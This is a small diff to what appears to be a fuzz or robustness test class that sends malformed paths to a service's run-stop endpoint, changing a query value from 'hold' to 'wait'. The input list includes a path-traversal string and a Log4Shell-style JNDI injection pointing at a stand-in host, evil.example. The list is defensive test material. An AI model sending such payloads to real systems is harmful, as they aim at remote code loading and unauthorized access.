@@ -127,13 +127,13 @@ class Malformed:
             "/runs/" + "x" * 5000 + "/stop",
             "/runs//stop",
             "//runs",
-            "/runs/%2e%2e/stop?ifUnknown=hold",
+            "/runs/%2e%2e/stop?ifUnknown=wait",
             "/runs/\xe4/stop",
             "/runs/%/stop",
             "*",
             "http://evil.example/stops",
             "/" + "a/" * 2000,
-            "/runs/${jndi:ldap://evil.example}/stop?ifUnknown=hold",
+            "/runs/${jndi:ldap://evil.example}/stop?ifUnknown=wait",
         ]
         return self._request(self._random.choice(["GET", "POST", "DELETE"]), self._random.choice(wrong))
 
